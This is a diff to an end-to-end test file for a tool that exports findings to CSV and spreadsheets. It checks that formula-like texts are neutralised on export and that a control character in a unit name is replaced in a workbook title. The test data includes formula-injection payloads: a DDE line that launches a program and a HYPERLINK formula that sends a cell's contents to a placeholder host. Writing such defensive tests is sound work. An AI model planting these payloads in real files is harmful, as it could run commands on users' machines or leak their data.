@@ -15,7 +15,7 @@ from tests.bureau import change, file_unit, rows
 
 pytestmark = pytest.mark.end_to_end
 
-UNIT, NAME = "@U+1", "+甲镇;=1+1"
+UNIT, NAME = "@U+1", "+甲\x01镇;=1+1"
 RUN, CALL, LINK = "=cmd|' /C calc'!A0", "@SUM(1+1)", '=HYPERLINK("http://example.invalid/?"&A1,"详情")'
 OFFICE = shutil.which("soffice")
 FORMULA = re.compile(r'table:formula="([^"]*)"')
@@ -64,6 +64,12 @@ def test_texts_in_every_csv_are_none_a_spreadsheet_would_run_and_can_be_had_agai
     listed = module_bureau.read("findings", "--year", "2023")
     printed = list(csv.DictReader(io.StringIO((given_out / "findings.csv").read_text(encoding="utf-8"))))
     assert [{name: unmark_text(text) or None for name, text in row.items()} for row in printed] == listed
+
+
+def test_sign_that_xml_has_no_place_for_is_told_in_a_workbook_and_the_rest_of_the_text_stands(given_out):
+    """For a unit that had typed one in its name no template could be made: a traceback."""
+    title = load_workbook(given_out / "template.xlsx").properties.title
+    assert title.startswith("+甲\ufffd镇;=1+1 2024 ")
 
 
 @pytest.mark.parametrize("name", ["returned.xlsx", "template.xlsx"])
